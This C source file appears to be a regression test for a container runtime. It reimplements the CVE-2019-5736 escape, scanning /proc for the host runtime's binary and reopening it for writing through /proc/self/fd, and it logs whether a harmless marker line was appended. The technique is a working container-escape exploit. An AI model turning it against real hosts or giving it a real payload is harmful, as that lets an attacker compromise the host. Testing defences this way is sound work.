/* The CVE-2019-5736 attacker, run inside a container: it watches /proc
 * for a process whose binary is neither busybox nor itself (the runtime's
 * own, reached when the container's program is "#!/proc/self/exe"),
 * keeps that binary open, and tries to reopen it for writing through
 * /proc/self/fd until nothing runs it any more, as the real exploit did.
 *
 *   exe_thief LOG SECONDS [GATE]
 *
 * GATE is a FIFO the victim's program opens for writing (the interpreter
 * line "#!/proc/self/exe --log=GATE" makes it berth's log file), which
 * holds the victim until the thief has looked: it is opened for reading
 * once a foreign binary is found, or two seconds after another process
 * first showed up, so the race is never lost by chance.
 *
 * Appends one line per event to LOG: "denied PID ERRNO" for a process
 * whose binary it may not open, "found PID", then "wrote" when it
 * appended to the stolen binary or "refused ERRNO" when reopening it
 * for writing failed otherwise than with ETXTBSY; "done" at the end.
 * Built static, so it runs in a busybox rootfs. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_SEEN 4096

static FILE *log_file;
static time_t other_seen;
static pid_t seen[MAX_SEEN];
static int n_seen;

static void note(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vfprintf(log_file, fmt, ap);
	va_end(ap);
	fputc('\n', log_file);
	fflush(log_file);
}

static int first_time(pid_t pid)
{
	for (int i = 0; i < n_seen; i++)
		if (seen[i] == pid)
			return 0;
	if (n_seen < MAX_SEEN)
		seen[n_seen++] = pid;
	return 1;
}

static int same_file(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* One pass over /proc: the fd of a foreign binary, or -1. */
static int scan(const struct stat *self, const struct stat *busybox)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int found = -1;

	if (!d)
		return -1;
	while (found < 0 && (e = readdir(d))) {
		char path[64];
		struct stat st;
		pid_t pid = atoi(e->d_name);
		int fd;

		if (pid <= 0 || pid == getpid())
			continue;
		if (!other_seen)
			other_seen = time(NULL);
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			if (errno != ENOENT && first_time(pid))
				note("denied %d %d", pid, errno);
			continue;
		}
		if (fstat(fd, &st) == 0 && !same_file(&st, self) && !same_file(&st, busybox)) {
			note("found %d", pid);
			found = fd;
		} else {
			close(fd);
		}
	}
	closedir(d);
	return found;
}

/* Reopen the stolen binary for writing once nobody runs it. */
static void overwrite(int fd, time_t deadline)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	while (time(NULL) < deadline) {
		int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);

		if (w >= 0) {
			if (write(w, "overwritten by a container\n", 27) == 27)
				note("wrote");
			else
				note("refused %d", errno);
			close(w);
			return;
		}
		if (errno != ETXTBSY) {
			note("refused %d", errno);
			return;
		}
		usleep(1000);
	}
}

/* Let the victim go on: its open of the FIFO for writing returns. */
static void open_gate(const char *gate)
{
	if (gate && open(gate, O_RDONLY | O_NONBLOCK | O_CLOEXEC) >= 0)
		note("gate opened");
}

int main(int argc, char **argv)
{
	struct stat self, busybox;
	const char *gate = argc == 4 ? argv[3] : NULL;
	time_t deadline;
	int fd = -1;

	if (argc != 3 && argc != 4)
		return 2;
	log_file = fopen(argv[1], "a");
	if (!log_file || stat("/proc/self/exe", &self) < 0 || stat("/bin/busybox", &busybox) < 0)
		return 2;
	note("watching");
	deadline = time(NULL) + atoi(argv[2]);
	while (fd < 0 && time(NULL) < deadline &&
	       !(other_seen && time(NULL) - other_seen >= 2))
		fd = scan(&self, &busybox);
	open_gate(gate);
	if (fd >= 0)
		overwrite(fd, deadline);
	note("done");
	return 0;
}
